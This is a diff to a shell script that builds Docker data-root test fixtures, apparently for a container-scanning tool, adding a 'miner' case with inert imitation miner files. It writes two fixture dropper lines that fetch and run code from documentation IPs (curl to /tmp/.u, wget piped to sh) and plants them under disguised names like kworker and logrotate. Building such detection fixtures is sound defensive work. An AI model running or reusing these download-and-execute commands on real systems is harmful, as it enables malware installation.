@@ -1,7 +1,7 @@
 #!/bin/sh
 # make-store.sh - make a fixture store with a real engine, as root
 #
-# usage: tests/stores/make-store.sh clean|hostile
+# usage: tests/stores/make-store.sh clean|hostile|miner
 #
 # Writes tests/fixtures/store-docker-KIND.tar.zst (a data-root of Docker
 # 20.10, overlay2) and tests/fixtures/store-docker-KIND/engine/ (what the
@@ -21,7 +21,7 @@
 
 set -eu
 kind=$1
-case $kind in clean | hostile) ;; *) echo "usage: $0 clean|hostile" >&2; exit 2 ;; esac
+case $kind in clean | hostile | miner) ;; *) echo "usage: $0 clean|hostile|miner" >&2; exit 2 ;; esac
 here=$(cd "$(dirname "$0")" && pwd)
 out=$(dirname "$here")/fixtures
 if [ -z "${MAKE_STORE_DIR:-}" ]; then
@@ -235,6 +235,51 @@ CMD ["httpd-foreground"]
 D
 }
 
+# What only bytes tell: no name, history or setting is known as hostile.
+build_miner() {
+	imitate "$C/nginx"
+	printf '#!/bin/sh\n# fixture: never run\ncurl -fsSL http://192.0.2.196/u -o /tmp/.u && chmod +x /tmp/.u && /tmp/.u\n' >"$C/update"
+	chmod 755 "$C/nginx" "$C/update"
+	image web/cache:2.0 <<'D'
+FROM base:12
+COPY nginx /usr/lib/cache/nginx
+CMD ["/usr/lib/cache/nginx", "-g", "daemon off;"]
+D
+	# The same layer below; the file is removed above it: it does not show.
+	image web/clean:2.1 <<'D'
+FROM web/cache:2.0
+COPY empty /usr/lib/cache/nginx
+D
+	# The same bytes under another name, in a layer of its own.
+	image tools/build:1 <<'D'
+FROM base:12
+COPY nginx /opt/tools/cc1
+COPY index.html /srv/index.html
+D
+	image blog/site:7 <<'D'
+FROM base:12
+COPY index.html /srv/index.html
+CMD ["httpd"]
+D
+}
+# A file that only looks like a miner: the header of an ELF program without
+# any code, and words that XMRig's documentation has.
+imitate() {
+	python3 - "$1" <<'P'
+import struct, sys
+head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH",
+    2, 62, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0)
+words = """--donate-level --donate-over-proxy --max-threads-hint --randomx-init
+--randomx-no-numa --huge-pages-jit --health-print-time --nicehash --rig-id
+rx/0 rx/wow rx/arq cn-lite/1 cn-heavy/xhv argon2/chukwa
+{"id":1,"jsonrpc":"2.0","method":"login","params":{"agent":""}}
+keepalived job_id nonce stratum+tcp:// stratum+ssl:// new job from %s
+fixture: no code is in this file"""
+open(sys.argv[1], "wb").write(head + bytes(4096 - len(head)) +
+    b"\0".join(words.encode().split(b"\n")) + bytes(512))
+P
+}
+
 if [ "$phase" = build ]; then
 	mount --bind "$W/build-lib" /var/lib
 	start
@@ -247,6 +292,7 @@ if [ "$phase" = build ]; then
 	printf '{"url":"192.0.2.44:3333","user":"fixture-wallet","pass":"x","algo":"cryptonight"}\n' >"$C/config.json"
 	printf '#!/bin/sh\n# fixture: the name of the worm, none of its content\nexit 0\n' >"$C/bash.sh"
 	chmod 755 "$C"/*.sh
+	: >"$C/empty"
 	build_$kind
 	docker save -o "$W/saved.tar" $(docker images --format '{{.Repository}}:{{.Tag}}' | grep -v '^<none>')
 	stop
@@ -362,6 +408,23 @@ store_hostile() {
 	# The bystander.
 	sh --name web --entrypoint /bin/busybox httpd:2.4 sh -c 'echo 1 >/tmp/httpd.pid'
 	docker create --name web2 -p 80:80 --restart=always httpd:2.4 >/dev/null
+}
+
+store_miner() {
+	pull web/cache:2.0 web/clean:2.1 tools/build:1 blog/site:7
+	docker create --name cleaned web/clean:2.1 >/dev/null
+	docker create --name build tools/build:1 >/dev/null
+	# Drops what lies in a volume here; it is copied, never run.
+	mkdir -p "$W/drop"
+	imitate "$W/drop/m"
+	printf '#!/bin/sh\n# fixture: never run\nwget -qO- http://198.51.100.7/x.sh | sh\n' >"$W/drop/x.sh"
+	sh --name blog -v "$W/drop:/drop:ro" --entrypoint /bin/busybox blog/site:7 sh -c '
+		b="/bin/busybox"
+		$b mkdir -p /tmp/.cache /usr/local/sbin
+		$b cp /drop/m /tmp/.cache/kworker; $b chmod 755 /tmp/.cache/kworker
+		$b cp /drop/x.sh /usr/local/sbin/logrotate; $b chmod 755 /usr/local/sbin/logrotate
+		echo ok >/tmp/state'
+	sh --name blog2 --entrypoint /bin/busybox blog/site:7 sh -c 'echo 1 >/tmp/state'
 }
 
 if [ "$kind" = clean ]; then
